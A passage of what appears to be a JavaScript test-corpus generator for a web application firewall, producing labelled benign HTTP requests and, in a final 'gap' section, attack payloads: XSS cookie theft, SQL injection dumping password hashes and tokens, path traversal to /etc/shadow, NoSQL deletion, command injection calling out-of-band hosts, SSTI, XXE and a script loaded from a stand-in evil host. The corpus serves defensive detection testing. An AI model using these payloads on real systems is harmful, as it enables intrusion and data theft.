  ok('json-api', { method: pick(['POST', 'PUT', 'PATCH']), path: pick(['/api/orders', '/api/profile', '/api/search', '/api/events', '/api/posts/7']), headers: [...baseHeaders(), ['content-type', 'application/json']], body: JSON.stringify(docs[i % docs.length]) });
}
// XML/SOAP without DOCTYPE tricks.
for (let i = 0; i < 30; i++) {
  const x = [
    `<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder><Id>${1000 + i}</Id></GetOrder></soap:Body></soap:Envelope>`,
    `<?xml version="1.0"?><note><to>O'Brien</to><from>Jean-Luc</from><body>Don't forget: select the blue one &amp; drop the red.</body></note>`,
    `<?xml version="1.0"?><!DOCTYPE note><note priority="high"><text>5 &lt; 6 and 7 &gt; 3</text></note>`,
    `<rss version="2.0"><channel><title>News</title><item><title>Union selects new leader</title><link>https://news.example.com/a?id=1&amp;s=2</link></item></channel></rss>`,
    `<config><path>/var/lib/app/data</path><url>https://api.example.com/v2</url><desc><![CDATA[Use <b>bold</b> text & enjoy]]></desc></config>`,
  ][i % 5];
  ok('xml-soap', { method: 'POST', path: '/soap/orders', headers: [...baseHeaders(), ['content-type', pick(['application/xml', 'text/xml; charset=utf-8', 'application/soap+xml'])]], body: x });
}
// File uploads: text and binary-ish, file names with spaces and apostrophes.
for (let i = 0; i < 30; i++) {
  const files = [[`Q3 report (final).pdf`, '%PDF-1.7 binary-ish content'], [`Brian's notes.txt`, pick(PROSE)], [`data.csv`, 'id,name,price\n1,"O\'Brien, Ltd",9.99\n2,Acme & Sons,5'],
    [`photo 2024-05-01.jpg`, 'JFIF image bytes'], [`config.yaml`, 'server:\n  port: 8080\n  host: 0.0.0.0\nlog: info'], [`script.sql`, '-- weekly report\nSELECT region, SUM(total) FROM sales GROUP BY region;']];
  const [fname, content] = files[i % files.length];
  ok('file-upload', placeMultipart('file', content, { filename: fname }));
}
// Paths that look odd but are normal.
for (const p of ['/api/v1/users/123/orders', '/files/My%20Documents/report.pdf', '/wiki/C%2B%2B', '/shop/t-shirts/men\'s', '/blog/2024/05/01/hello-world', '/users/o\'brien/profile',
  '/search/caf%C3%A9', '/api/items/SKU-001;v=2', '/docs/select-and-update', '/p/union-station', '/static/js/app.8f3a1c.js', '/@user/posts', '/~jdoe/index.html',
  '/download/release-1.2.3.tar.gz', '/.well-known/openid-configuration', '/health', '/metrics', '/favicon.ico', '/robots.txt', '/sitemap.xml']) {
  for (let i = 0; i < 3; i++) ok('paths', { method: 'GET', path: p, headers: baseHeaders() });
}
// Emails, addresses, numbers, dates in forms.
for (let i = 0; i < 40; i++) {
  ok('forms', placeForm(pick(['email', 'phone', 'address', 'date', 'amount', 'company']), pick([
    'jane.doe+shop@example.com', "o'reilly@example.ie", '+44 20 7946 0958', '12 Baker St, London NW1 6XE', '2024-05-01T10:00:00Z',
    '1,234.56', 'Smith & Wesson Ltd.', 'Dept. 5/B; Room 12', '(555) 010-9999 ext. 3', 'P.O. Box 42 -- Main Post Office',
  ])));
}
// More realistic prose in blog comments and reviews, written in several languages and tones.
const REVIEWS = [
  'Five stars! The select-a-size guide was spot on, and returns were painless.', 'Ordered on Monday; arrived Wednesday. The box was a bit crushed -- product fine.',
  "Honestly? It's OK. Not great, not terrible. I'd give it 3/5.", 'Works with my Mac & PC; setup took 5 minutes (maybe less).',
  'Warning: the "waterproof" claim is... optimistic. Still, good value for $49.', 'Can I drop off returns at the store, or only by mail?',
  'Update: customer service replaced it within a week. Changing to 4 stars <3', 'Tried it with Python 3.12: `pip install shop-sdk` then import shop -- worked.',
  'Das Produkt ist gut; die Lieferung dauerte aber 2 Wochen.', 'Très bien, mais l\'emballage était abîmé.', 'Il prodotto è arrivato in 2 giorni -- ottimo!',
  'The chart shows sales where region = "EU" grew 12% vs. last year.', 'I used ../ in my relative links and they broke after the migration, any tips?',
  'Our team uses <b>bold</b> and <i>italic</i> in descriptions; please keep it.', 'Who else thinks 1 + 1 = 2 is underrated? :)',
];
for (let r = 0; r < 4; r++) for (const t of REVIEWS) ok('reviews', benignValue('reviews', t, n++));

// ---------------------------------------------------------------- more benign traffic
const PROSE2 = [
  `Could you update the shipping address? The old one's wrong.`, `Select "Express" at checkout if you need it by Tuesday.`,
  `My son's school drops off at 3; pick-up's at 4:30.`, `Where can I find the user guide -- the PDF or the web version?`,
  `The meeting is from 2 to 3 (or 4, if we run over).`, `50% of respondents said "yes", 30% said "no", the rest didn't answer.`,
  `Please don't delete the draft; I'll finish it tonight.`, `Insert your card, select the amount, and wait for the receipt.`,
  `We'll union the two datasets, then drop duplicates and order by date.`, `I've been a customer since '09 -- never had an issue until now.`,
  `What's the best way to update my billing info? The form won't save.`, `Chapter 3: "Where the Wild Things Are" & other stories`,
  `Our CEO said: 'we execute, we don't just plan'.`, `It's a 2-for-1 deal; buy one, get one free (while stocks last).`,
  `Is the table 120 x 80 cm or 120 x 90? The listing says both.`, `He scored 1 or 2 goals -- I can't remember which.`,
  `Grant access to the shared drive for Anne, Bob & Chloé, please.`, `The cat sat on the mat; the dog sat on the log.`,
  `Alter the hem by 2 inches and take in the waist a bit.`, `Truncate long names to 20 characters in the report, please.`,
  `Create an account, then select a plan -- you can cancel anytime.`, `I'd rate it 4/5: great sound, so-so battery.`,
  `Mix 1 part vinegar with 3 parts water; spray and wipe.`, `Having trouble logging in? Try resetting your password.`,
  `Sleep is important: aim for 7-9 hours a night.`, `Declare your items at customs if they're worth more than €430.`,
  `"Exec" is short for executive, as in "exec summary".`, `You can order by phone, by email, or online -- whichever's easiest.`,
  `Don't forget: the sale ends at midnight (PST).`, `Is it true that 1 = 1 and 2 > 1? Asking for my math homework.`,
  `We're located between 5th & 6th Ave; look for the blue door.`, `Q3 revenue: up 12%; costs: down 3%; margin: 18% -> 21%.`,
  `My daughter's name is Siobhán; please spell it correctly on the cake.`, `I like the 'minimal' theme more than the 'classic' one.`,
  `Lots of "quotes" and 'apostrophes' and \`backticks\` in this one.`, `The sign read: NO ENTRY -- STAFF ONLY.`,
  `Use & to join, | to pipe, and ; to separate (in the shell, I mean).`, `Where's my refund? It's been 10 days; the order # is 88231.`,
  `Our union's annual meeting is on 5/12; all members welcome.`, `Set the alarm to 6:30, then sleep until it rings.`,
];
const BLOG = [
  `# Why we moved to PostgreSQL\n\nWe ran MySQL for years. The query that broke us was:\n\n    SELECT o.id, SUM(i.price) FROM orders o JOIN items i ON i.order_id = o.id GROUP BY o.id;\n\nIt took 40 s. After the migration it takes 300 ms.`,
  `Today I learned about the \`find\` command. For example \`find . -name "*.log" -mtime +7\` lists old logs. Combine it with xargs carefully!`,
  `Tip: in JavaScript, never build HTML with string concatenation like el.innerHTML = '<b>' + name + '</b>'; use textContent instead.`,
  `Our deploy script does: git pull && npm ci && npm run build && pm2 restart app. It's simple and it works for a small team.`,
  `In Python, prefer parameterized queries: cursor.execute("SELECT * FROM users WHERE email = %s", (email,)). Never format the string yourself.`,
  `Regex of the day: ^\\d{3}-\\d{2}-\\d{4}$ matches a number shaped like 123-45-6789 (it doesn't check whether it is valid).`,
  `To escape HTML, replace & with &amp;, < with &lt; and > with &gt;. That's it for text nodes.`,
  `Kubernetes tip: kubectl get pods -n shop -o wide shows which node each pod runs on.`,
  `The Bobby Tables comic is a reminder: sanitize your inputs and use prepared statements.`,
  `Markdown supports inline code: wrap it in back-ticks, like \`const x = 1;\`, and code blocks with three back-ticks.`,
];
const ADDRESSES = [`221B Baker St, London NW1 6XE, UK`, `1600 Amphitheatre Pkwy, Mountain View, CA 94043`, `Unter den Linden 77, 10117 Berlin`,
  `Rue de Rivoli 99, 75001 Paris`, `Apt. 4B; 12 O'Connell St., Dublin 1`, `〒150-0041 東京都渋谷区神南1-19-11`, `Av. Paulista, 1578 - Bela Vista, São Paulo`,
  `P.O. Box 1234, Station A, Toronto ON M5W 1A1`, `Flat 3/2, 45 Queen's Road, Hong Kong`, `ul. Marszałkowska 1, 00-624 Warszawa`];
const USER_AGENTS = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51',
  'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)', 'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)',
  'PostmanRuntime/7.37.3', 'Go-http-client/2.0', 'Apache-HttpClient/4.5.14 (Java/17.0.10)', 'axios/1.6.8', 'Wget/1.21.4', 'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
];
const QUERIES = [
  `?utm_source=google&utm_medium=cpc&utm_campaign=brand%20(exact)&gclid=Cj0KCQjw8J6wBhDXARIsAPo7QA8`,
  `?fbclid=IwAR2F4-dbP0l7Mn1vrjV5sG5&ref=share`, `?sort=-created_at,name&fields=id,title,author(name)&include=comments`,
  `?filter[price][gte]=10&filter[price][lte]=100&filter[brand][]=acme&filter[brand][]=globex`,
  `?$filter=Price%20gt%2010%20and%20Category%20eq%20'Books'&$orderby=Name%20desc&$top=20`,
  `?q=%22machine%20learning%22%20-python%20site%3Aexample.com`, `?search=women's%20running%20shoes&size=7.5&color=navy%2Fwhite`,
  `?redirect_uri=https%3A%2F%2Fapp.example.com%2Foauth%2Fcallback&response_type=code&scope=openid%20profile%20email&state=af0ifjsldkj`,
  `?returnUrl=%2Faccount%2Forders%3Fpage%3D2`, `?data=%7B%22page%22%3A%22home%22%2C%22ab%22%3A%5B1%2C2%5D%7D`,
  `?callback=jQuery3600123_1700000000000&_=1700000000001`, `?lat=53.3498&lng=-6.2603&radius=5km`, `?date_from=2024-01-01&date_to=2024-03-31&tz=Europe%2FDublin`,
  `?ids=1,2,3,4,5&expand=items.product&lang=pt-BR`, `?text=Caf%C3%A9%20cr%C3%A8me%20br%C3%BBl%C3%A9e&v=2`, `?email=o%27neil%40example.com&newsletter=1`,
];
const HEADER_SETS = [
  [['sec-ch-ua', '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'], ['sec-ch-ua-platform', '"Windows"']],
  [['if-none-match', 'W/"5e-1a2b3c4d"'], ['x-requested-with', 'XMLHttpRequest']],
  [['x-client-data', 'CIe2yQEIpLbJAQipncoBCMKTywEIlKHLAQiFoM0BCLnIzQE='], ['x-goog-api-client', 'gl-node/20.11.0 gccl/7.7.0']],
  [['x-forwarded-for', '203.0.113.195, 70.41.3.18, 150.172.238.178'], ['forwarded', 'for=192.0.2.60;proto=http;by=203.0.113.43']],
  [['x-amz-date', '20240501T120000Z'], ['x-amz-content-sha256', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855']],
  [['x-correlation-id', 'req_01HX2Z8Q5B7K9M3N4P6R8T0V2W'], ['x-device', 'iPhone15,2; iOS 17.4; app 5.2.1 (412)']],
  [['content-language', 'de-DE, en-CA'], ['x-timezone', 'America/Los_Angeles']],
  [['x-custom-filter', '{"status":["open","pending"],"owner":"me"}'], ['x-feature-flags', 'new-checkout=on;beta-search=off']],
];
for (let r = 0; r < 3; r++) {
  for (const t of PROSE2) ok('prose-sql-words', benignValue('prose', t, n++));
  for (const t of ADDRESSES) ok('forms', benignValue('addr', t, n++));
}
for (const t of BLOG) for (let i = 0; i < 6; i++) {
  ok('code-snippets', pick([
    () => placeJson('body', t), () => placeForm('content', t), () => placeMultipart('post', t),
    () => ({ method: 'POST', path: '/api/posts', headers: [...baseHeaders(), ['content-type', 'text/markdown']], body: t }),
  ])());
}
for (const ua of USER_AGENTS) for (let i = 0; i < 4; i++) {
  ok('browser-traffic', { method: 'GET', path: pick(['/', '/products/42', '/robots.txt', '/sitemap.xml', '/api/v1/items?page=2']), headers: [['user-agent', ua], ['accept', '*/*']] });
}
for (const q of QUERIES) for (let i = 0; i < 5; i++) {
  ok('urls', { method: 'GET', path: pick(['/search', '/products', '/api/v2/orders', '/oauth/authorize', '/landing']) + q, headers: [...baseHeaders(), ...pick(HEADER_SETS)] });
}
for (const hs of HEADER_SETS) for (let i = 0; i < 6; i++) ok('browser-traffic', { method: 'GET', path: '/api/me', headers: [...baseHeaders(), ...hs] });
// SAML-style and other base64 form posts; JSON with escapes.
const SAML = Buffer.from('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_8e8dc5f69a98cc4c1ff3427e5ce34606fd672f91e6" Version="2.0"><saml:Issuer>https://idp.example.com</saml:Issuer></samlp:Response>').toString('base64');
for (let i = 0; i < 10; i++) ok('forms', placeForm('SAMLResponse', SAML));
for (let i = 0; i < 20; i++) {
  ok('json-api', { method: 'POST', path: '/api/messages', headers: [...baseHeaders(), ['content-type', 'application/json; charset=utf-8']],
    body: JSON.stringify({ text: pick([...PROSE2, ...REVIEWS]), author: pick(NAMES), meta: { emoji: '\u{1F600}', accent: 'caf\u00e9', html: '<p>ok</p>' }, n: [1, 2.5, -3e2], ok: true, none: null }) });
}
// More GraphQL shapes.
const GQL2 = [
  `query Product($id: ID!) { product(id: $id) { ...ProductFields } } fragment ProductFields on Product { id name price { amount currency } }`,
  `mutation Checkout($input: CheckoutInput!) { checkout(input: $input) { order { id total } errors { field message } } }`,
  `query { search(q: "it's \\"quoted\\"", first: 10) { edges { node { id } } } }`,
  `query Users { users(where: { name: { contains: "O'Neil" } }, orderBy: { createdAt: desc }) { id } }`,
];
for (const g of GQL2) for (let i = 0; i < 6; i++) {
  ok('graphql', { method: 'POST', path: '/graphql', headers: [...baseHeaders(), ['content-type', 'application/json']], body: JSON.stringify({ query: g, operationName: null, variables: { id: `${i}`, input: { note: pick(PROSE2) } } }) });
}
// Rich text from editors (more shapes).
const RICH2 = [
  `<p><span style="font-family: Arial; color: rgb(51, 51, 51);">Welcome back!</span></p>`, `<table class="data"><thead><tr><th>Qty</th><th>Price</th></tr></thead><tbody><tr><td>2</td><td>&euro;9.99</td></tr></tbody></table>`,
  `<p>Visit <a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">our site</a>.</p>`, `<h1>Title</h1><p>Text with <sup>1</sup> and <sub>2</sub>.</p>`,
  `<div data-id="42" data-role="card"><img src="data:image/png;base64,${PNG}" alt=""></div>`, `<p>5 &lt; 10 &amp;&amp; 10 &gt; 5</p>`,
  `<ul class="checklist"><li data-checked="true">Buy milk</li><li data-checked="false">Call mom</li></ul>`, `<video controls src="https://cdn.example.com/v.mp4" poster="https://cdn.example.com/p.jpg"></video>`,
];
for (let r = 0; r < 4; r++) for (const t of RICH2) ok('rich-text-html', benignValue('rich', t, n++));
for (let r = 0; r < 2; r++) for (const t of UNICODE) ok('unicode', benignValue('unicode', t + ' ' + pick(PROSE2), n++));
for (let r = 0; r < 2; r++) for (const t of SEARCH) ok('search-queries', placeQuery('q', t + ' ' + pick(['2024', 'near me', 'review', 'vs', 'price'])));

// Order notes and support messages: fragments combined the way people write them.
for (let i = 0; i < 120; i++) {
  const note = `${pick(['Hi,', 'Hello team,', 'Dear support,', 'Hey --', 'Re: order #' + (1000 + i) + ':'])} ${pick([...PROSE, ...PROSE2])} ${pick(['Thanks!', 'Cheers, ' + pick(NAMES), '-- sent from my phone', ':)', 'Regards; ' + pick(NAMES)])}`;
  ok('reviews', pick([() => placeForm('message', note), () => placeJson('note', note), () => placeMultipart('message', note), () => placeQuery('comment', note)])());
}

// Requests as real applications send them: analytics beacons, CMS posts, OData filters, code
// snippets, templates, tickets, search queries about attacks.
const REAL = [{"method": "GET", "path": "/collect?v=1&_v=j101&a=1234567&t=pageview&_s=1&dl=https%3A%2F%2Fshop.example.com%2Fproducts%2F42%3Fcolor%3Dred&ul=en-us&de=UTF-8&dt=Red%20Shoes%20%7C%20Shop&sd=24-bit&sr=1920x1080&vp=1903x969&je=0&_u=IEBAAEAB~&jid=&gjid=&cid=1234567890.1700000000&tid=UA-12345-1&_gid=987654321.1700000000&z=123456789"}, {"method": "GET", "path": "/p?fbclid=IwAR3xY_7Zk-1aB2cD3eF4gH5iJ6kL7mN8oP9qR0sT&utm_content=ad%7C%7Cvariant-b"}, {"method": "POST", "path": "/api/track", "headers": [["content-type", "application/json"]], "body": "{\"events\":[{\"event\":\"Clicked Button\",\"properties\":{\"label\":\"Add to cart\",\"url\":\"https://shop.example.com/p/42?ref=home\",\"referrer\":\"https://www.google.com/\",\"user_agent\":\"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36\"},\"timestamp\":\"2024-05-01T12:00:00.000Z\"}]}"}, {"method": "POST", "path": "/wp-admin/admin-ajax.php", "headers": [["content-type", "application/x-www-form-urlencoded"]], "body": "action=save_post&content=%3Cp%3EHello%20%3Cstrong%3Eworld%3C%2Fstrong%3E%3C%2Fp%3E%0A%3Cp%3E%3Ca%20href%3D%22https%3A%2F%2Fexample.com%22%3Elink%3C%2Fa%3E%3C%2Fp%3E&title=My+first+post&_wpnonce=abc123"}, {"method": "POST", "path": "/api/comments", "headers": [["content-type", "application/json"]], "body": "{\"body\":\"I tried `SELECT * FROM orders WHERE id = 5` in the console and it worked, thanks!\"}"}, {"method": "POST", "path": "/api/notes", "headers": [["content-type", "application/json"]], "body": "{\"text\":\"Meeting w/ Sam & Alex re: Q3 -- budget's tight; let's cut 10% (or more?)\"}"}, {"method": "GET", "path": "/search?q=%22select%22+vs+%22where%22+in+sql"}, {"method": "GET", "path": "/search?q=how+to+fix+%3Cdiv%3E+alignment+in+css"}, {"method": "GET", "path": "/search?q=c%23+string+format+%7B0%7D"}, {"method": "GET", "path": "/search?q=1%3D1+meaning"}, {"method": "GET", "path": "/search?q=rm+-rf+node_modules"}, {"method": "GET", "path": "/search?q=cat+%2Fetc%2Fhosts+windows+equivalent"}, {"method": "GET", "path": "/search?q=what+is+%24%7Bjndi%7D+log4j"}, {"method": "GET", "path": "/docs/linux/etc-passwd-format"}, {"method": "POST", "path": "/api/profile", "headers": [["content-type", "application/json"]], "body": "{\"bio\":\"Full-stack dev. I <3 Rust & Go; ex-Googler. Opinions mine -- not my employer's.\",\"website\":\"https://jane.dev\",\"location\":\"Berlin / Remote\"}"}, {"method": "PUT", "path": "/api/settings", "headers": [["content-type", "application/json"]], "body": "{\"notifications\":{\"email\":true,\"sms\":false},\"timezone\":\"America/New_York\",\"dateFormat\":\"MM/DD/YYYY\",\"currency\":\"USD\"}"}, {"method": "POST", "path": "/checkout", "headers": [["content-type", "application/x-www-form-urlencoded"]], "body": "name=Se%C3%A1n+O%27Ceallaigh&address=12+Main+St.%2C+Apt+%234&city=Cork&zip=T12+X70R&notes=Leave+at+back+door+-+dog+is+friendly%21"}, {"method": "GET", "path": "/api/v1/search?filter=status%20eq%20%27active%27%20and%20created%20gt%202024-01-01&orderby=name%20asc"}, {"method": "GET", "path": "/graphql?query=%7B%20me%20%7B%20id%20name%20%7D%20%7D"}, {"method": "POST", "path": "/api/code", "headers": [["content-type", "application/json"]], "body": "{\"snippet\":\"for (const [k, v] of Object.entries(obj)) { if (v == null) delete obj[k]; }\"}"}, {"method": "POST", "path": "/api/code", "headers": [["content-type", "application/json"]], "body": "{\"snippet\":\"import os\\nprint(os.path.join('a', 'b'))\"}"}, {"method": "POST", "path": "/api/code", "headers": [["content-type", "application/json"]], "body": "{\"snippet\":\"#!/bin/bash\\nset -euo pipefail\\nfor f in *.log; do gzip \\\"$f\\\"; done\"}"}, {"method": "GET", "path": "/img/photo.jpg?w=800&h=600&q=80&fm=webp&fit=crop&crop=faces,center"}, {"method": "GET", "path": "/api/items?ids[]=1&ids[]=2&sort[created_at]=desc&page[number]=2"}, {"method": "POST", "path": "/upload", "headers": [["content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"]], "body": "------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"file\"; filename=\"O'Brien - CV (2024).docx\"\r\nContent-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document\r\n\r\nPK\u0003\u0004 binary\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"}, {"method": "GET", "path": "/", "headers": [["cookie", "_ga=GA1.1.123.456; _ga_ABC123=GS1.1.1700000000.1.1.1700000100.0.0.0; cart={\"items\":[{\"id\":42,\"q\":1}],\"total\":19.99}; consent=%7B%22necessary%22%3Atrue%2C%22analytics%22%3Afalse%7D"]]}, {"method": "GET", "path": "/", "headers": [["user-agent", "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/460.0.0.43.108;]"]]}, {"method": "GET", "path": "/", "headers": [["user-agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 326.0.0.34.90 (iPhone14,5; iOS 17_4_1; en_US; en; scale=3.00; 1170x2532; 590391284)"]]}, {"method": "GET", "path": "/", "headers": [["referer", "https://www.google.com/search?q=red+shoes+%22size+42%22&oq=red+shoes&aqs=chrome..69i57j0i512l9.3000j0j7&sourceid=chrome&ie=UTF-8"]]}, {"method": "POST", "path": "/api/messages", "headers": [["content-type", "application/json"]], "body": "{\"message\":\"Can you send the report to bob@example.com; cc: alice@example.com? Thanks!\"}"}, {"method": "POST", "path": "/api/ticket", "headers": [["content-type", "application/json"]], "body": "{\"description\":\"Error when saving:\\nTypeError: Cannot read properties of undefined (reading 'id')\\n    at save (app.js:12:5)\"}"}, {"method": "POST", "path": "/api/ticket", "headers": [["content-type", "application/json"]], "body": "{\"description\":\"Steps: 1) open /admin/users 2) click 'Delete' 3) see error 500\"}"}, {"method": "GET", "path": "/maps/place/Caf%C3%A9+de+Flore/@48.854,2.332,17z"}, {"method": "GET", "path": "/wiki/%27Tis_Pity_She%27s_a_Whore"}, {"method": "GET", "path": "/wiki/Bobby_Tables"}, {"method": "GET", "path": "/api/v2/users/me/orders?fields=id,total,items(name,price)&expand=shipping"}, {"method": "POST", "path": "/api/templates", "headers": [["content-type", "application/json"]], "body": "{\"subject\":\"Your order {{order_number}} has shipped\",\"body\":\"Hi {{ first_name }}, your package is on its way.\"}"}, {"method": "POST", "path": "/api/search", "headers": [["content-type", "application/json"]], "body": "{\"query\":\"shoes\",\"filters\":{\"price\":{\"gte\":10,\"lte\":100},\"brand\":{\"in\":[\"acme\",\"globex\"]}}}"}, {"method": "POST", "path": "/api/mongo-proxy", "headers": [["content-type", "application/json"]], "body": "{\"collection\":\"orders\",\"filter\":{\"status\":{\"$in\":[\"open\",\"pending\"]}}}"}, {"method": "GET", "path": "/redirect?url=https%3A%2F%2Fpartner.example.com%2Flanding%3Fref%3Dshop"}, {"method": "GET", "path": "/oauth/callback?code=4%2F0AeaYSHB1234&scope=email%20profile%20openid&authuser=0&prompt=consent"}, {"method": "POST", "path": "/api/feedback", "headers": [["content-type", "text/plain"]], "body": "Love the new design!! <3 <3 One thing: the 'Save' button sometimes needs 2 clicks; also the search for \"O'Reilly\" returns nothing."}, {"method": "POST", "path": "/api/comments", "headers": [["content-type", "application/json"]], "body": "{\"body\":\"Use ../../images/logo.png as the relative path from the docs folder.\"}"}, {"method": "POST", "path": "/api/comments", "headers": [["content-type", "application/json"]], "body": "{\"body\":\"The config lives in /etc/nginx/nginx.conf on our servers\"}"}, {"method": "POST", "path": "/api/comments", "headers": [["content-type", "application/json"]], "body": "{\"body\":\"run `curl -s https://get.example.com | sh` to install (we know, we know)\"}"}];
for (const r of REAL) for (let i = 0; i < 2; i++) ok('real-world', { method: r.method, path: r.path, headers: [...baseHeaders(), ...(r.headers ?? [])], ...(r.body !== undefined ? { body: r.body } : {}) });

// ---------------------------------------------------------------- gaps found against a public suite
// Shapes a public WAF test suite showed the engine missing, in payloads written here: JavaScript
// call forms without markup, select lists joined by operators, base64 whose '+' a form decoder
// reads as a space, UNC admin shares, dot segments, mongo shell and busy-wait $where, LDAP
// extensible match, lone SMTP verbs, cmd.exe's set /a, host lookups, out-of-band callback hosts
// in user agents, versioned comments at the start, multipart field names. Appended last so the
// seeded entries above stay as they are.
const GAP_ATTACKS = [
  ['xss', 'prompt.apply(window, [document.domain])'], ['xss', '(confirm)(document.cookie)'], ['xss', 'alert?.(origin)'],
  ['xss', 'confirm.bind(null, 1337)()'], ['xss', '"]);if(!top.q)top.q=!alert(document.domain)}catch(x){}//'],
  ['xss', "document['cookie']"], ['xss', 'x" Tabindex=1 ONFOCUS=prompt(8) autofocus="'], ['xss', 'eval(atob(this.name))'],
  ['xss', '<p \\<  onpointerenter=alert(3)>hover</p>'],
  ['sqli', "' UNION SELECT login || ':' || pass_hash FROM accounts--"], ['sqli', "0 union select email+'|'+token from sessions"],
  ['sqli', '/*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2'], ['sqli', '/*!union*/ /*!select*/ -3'],
  ['path-traversal', 'file:///etc/./shadow'], ['path-traversal', '/proc/./self/./environ'],
  ['rfi', '\\\\fileserver\\c$\\Windows\\repair\\sam'], ['rfi', '\\\\[::1]\\admin$\\system.ini'],
  ['nosqli', 'db.accounts.deleteMany({})'], ['nosqli', "'; db.sessions.updateMany({}, {admin: true}); '"],
  ['nosqli', '1;var t=new Date();while(new Date()-t<3000){}'], ['nosqli', "';let s=new Date(); do {} while(new Date()-s<5000); '"],
  ['ldap-injection', 'uid:2.5.13.2:=root'], ['ldap-injection', 'cn:dn:=Administrators'],
  ['mail-injection', '\r\nDATA\r\n'], ['mail-injection', '\nRSET\n'],
  ['command-injection', '& set /a 7*191'], ['command-injection', '| getent ahosts cb7.oob-listener.example.net'],
  ['command-injection', ';getent+ahosts+cb9.oob-listener.example.net'],
  ['xss', "'tab<q>index=0 on<q>focus=con<q>firm(4) autof<q>ocus '"], ['xss', '<svg o<b>nload=prompt<i>(5)>'],
  ['path-traversal', 'C:\\Users\\Default\\NTUSER.DAT'],
  ['ssti', 'x=${@phpinfo()}'], ['ssti', '${ @readfile(base64_decode($k)) }'],
];
const gapPlaces = [(v) => placeQuery('q', v), (v) => placeForm('note', v), (v) => placeJson('note', v), (v) => placeMultipart('note', v)];
for (const [cls, v] of GAP_ATTACKS) for (const place of gapPlaces) add(cls, place(v), false, 'gap');
// Base64 of an attack whose encoding has '+': the form decoder must not break it apart.
for (const v of ['<svg onload=alert(1)>~~~', '<svg/onload=confirm(5)>>']) {
  const b = b64(v).replace(/=/g, '');
  if (!b.includes('+')) throw new Error(`base64 of ${v} has no '+'`);
  add('xss', placeQuery('data', b, { raw: true }), true, 'base64 with +');
  add('xss', placeForm('data', b, { raw: true }), true, 'base64 with +');
}
for (const ua of ['Mozilla/5.0 (X11; Linux x86_64) probe-7f3k2.oastify.com', 'curl/8.4.0 ping@c0ffee12.interact.sh', 'check_cms_login_bypass.nasl']) {
  add('scanner', placeHeader('user-agent', ua), false, 'gap');
}
for (const v of ['\r\nQUIT\r\n', '\r\nDATA\r\n']) add('mail-injection', placePath(v), false, 'gap');
add('xxe', placeXml('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r +AFsAPAAh-ENTITY e SYSTEM +ACI-file:///etc/hostname+ACIAPgBd-+AD4-+ADw-r+AD4AJg-e+ADsAPA-/r+AD4-', { raw: true }), true, 'UTF-7 document');
// Multipart: the attack in the field name, and parts whose lines end in LF alone.
add('path-traversal', { method: 'POST', path: '/upload', headers: [...baseHeaders(), ['content-type', 'multipart/form-data; boundary=q7Zt']],
  body: '--q7Zt\r\nContent-Disposition: form-data; name="../../../etc/passwd"\r\n\r\nx\r\n--q7Zt--\r\n' }, true, 'field name');
add('xss', { method: 'POST', path: '/upload', headers: [...baseHeaders(), ['content-type', 'multipart/form-data; boundary=q7Zt']],
  body: '--q7Zt\nContent-Disposition: form-data; name="bio"\n\n<script src=//cdn.evil.example/x.js></script>\n--q7Zt--\n' }, true, 'LF-only multipart');
// And what must still pass: prose after "JavaScript:", shell scripts with `set -e`, code that
// reads the clock in a loop, multipart with LF-only lines, mongo questions.
const GAP_BENIGN = [
  'JavaScript: The Good Parts is a short read', 'javascript: the definitive guide, seventh edition',
  '#!/bin/sh\nset -eu\nexport LANG=C\nmake all', 'const t0 = new Date(); while (new Date() - t0 < 50) { spin(); }',
  'Why is db.orders.find() slow without an index?', 'The prompt (in bold) asks you to confirm (twice).',
  'See the Union Select Committee minutes || agenda for May', 'Ping me at ops.oncall.example.com if it breaks',
  'C++;Rust+Go;ls+cd+pwd', 'Formula: a+b;c+d',
  'Water is H<sub>2</sub>O and the key is Ctrl<kbd>C</kbd>', 'line one<br>line two<br>onwards (see notes)',
  'Ping ${@oncall} in chat (after 6pm)', 'if (confirm("Delete this item?")) { remove(id); }',
  'Hi team; host mail.example.com is down again', '\r\nData\r\nRevenue grew 4% this quarter',
];
for (const v of GAP_BENIGN) for (const place of gapPlaces) ok('gaps', place(v));
ok('gaps', { method: 'POST', path: '/upload', headers: [...baseHeaders(), ['content-type', 'multipart/form-data; boundary=q7Zt']],
  body: '--q7Zt\nContent-Disposition: form-data; name="title"\n\nQuarterly report, final draft\n--q7Zt\nContent-Disposition: form-data; name="tags"\n\nfinance, q3\n--q7Zt--\n' });
